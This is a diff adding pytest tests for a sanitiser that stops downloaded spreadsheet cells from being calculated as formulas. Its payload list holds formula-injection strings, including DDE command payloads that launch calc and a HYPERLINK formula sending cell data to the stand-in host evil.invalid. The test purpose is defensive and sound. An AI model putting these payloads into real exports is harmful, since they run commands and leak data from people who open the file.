@@ -1,0 +1,51 @@
+"""No cell of a table to download is calculated, whatever somebody typed; numbers stay numbers."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+
+import pytest
+
+from backoffice.lists.formulas import BEGINNINGS, SKIPPED, as_typed, harmless
+from orders.placing import sheet
+
+PAYLOADS = (
+    "=1+1", "+1", "-1+cmd", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=cmd|'/C calc'!A0",
+    '=HYPERLINK("http://evil.invalid/?x="&A1,"click")', "=IMPORTXML(CONCAT(A1),1)", " =1", "   @x",
+    "\u00a0=1", "\u3000=1", "\u200b=1", "\ufeff=1", "\v=1", " \t =1", "＝1", "＋1", "－1", "＠x",
+    " ＝1", "\u3000＠x", '"=1"', "'=1", "''=1", "-2+3+cmd|' /C calc'!D2", "=\r\n1", "%0A=1",
+)  # fmt: skip
+PLAIN = ("Ana", "O'Neill", "a=b", "1-2", "x@y.invalid", "100.20", "<5", "", "'", "’= 1", "½")
+
+
+def calculates(cell: str) -> bool:
+    """As the most careless table program reads a cell."""
+    return re.match(r"[\s\u200b\ufeff]*[=+\-@＝＋－＠]", cell) is not None or cell[:1] in "\t\r\n"
+
+
+@pytest.mark.parametrize("text", PAYLOADS)
+def test_no_payload_calculates_and_none_is_lost(text: str) -> None:
+    assert not calculates(harmless(text))
+    assert as_typed(harmless(text)) == text
+
+
+@pytest.mark.parametrize("text", PLAIN)
+def test_what_is_no_formula_stays(text: str) -> None:
+    assert harmless(text) == as_typed(text) == text
+
+
+def test_every_beginning_behind_everything_that_is_skipped() -> None:
+    for skipped in ("", *SKIPPED, SKIPPED):
+        for beginning in BEGINNINGS:
+            risky = beginning.strip() or not skipped
+            assert harmless(f"{skipped}{beginning}x").startswith("'") or not risky
+
+
+def test_a_sheet_that_comes_back_is_harmless_too() -> None:
+    head = ",".join(sheet.COLUMNS)
+    cells = ",".join('"=1+1"' for _ in sheet.COLUMNS)
+    written = sheet.write(sheet.read(f"{head}\n{cells}\n".encode()), reasons=True)
+    _, row = csv.reader(io.StringIO(written))
+    assert row[:-1] == ["'=1+1"] * len(sheet.COLUMNS)
